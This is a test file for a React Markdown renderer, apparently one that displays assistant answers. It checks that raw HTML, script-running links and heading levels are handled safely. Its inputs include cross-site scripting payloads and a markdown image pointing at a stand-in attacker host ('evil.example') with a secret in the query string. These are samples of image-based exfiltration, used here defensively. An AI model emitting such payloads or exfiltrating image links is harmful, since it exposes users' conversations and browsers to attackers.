import { describe, expect, it } from '@jest/globals';
import { render } from '@testing-library/react';
import { MarkdownText } from './markdown-text.tsx';

const html = (text: string): HTMLElement => render(<MarkdownText text={text} />).container;

describe('an answer’s Markdown', () => {
  it('keeps raw HTML as text', () => {
    const container = html('a <script>alert(1)</script> <img src=x onerror=alert(1)> b');
    expect(container.querySelector('script, img')).toBeNull();
    expect(container.textContent).toContain('<script>alert(1)</script>');
  });

  it('has no links that run scripts', () => {
    const container = html('[one](javascript:alert(1)) [two](data:text/html,x) [three](https://example.org)');
    const links = [...container.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(links).toEqual(['https://example.org']);
    expect(container.querySelector('a')?.getAttribute('rel')).toContain('noopener');
  });

  it('does not load images, which could carry the conversation away', () => {
    const container = html('![chart](https://evil.example/?q=secret)');
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toBe('chart');
  });

  it('fits headings under the page’s own without skipping a level', () => {
    const container = html('### Start\n\n# Up\n\n#### Down\n\n##');
    expect([...container.querySelectorAll('h1, h2, h3, h4, h5, h6')].map(({ tagName }) => tagName)).toEqual([
      'H2',
      'H2',
      'H3',
    ]);
  });
});
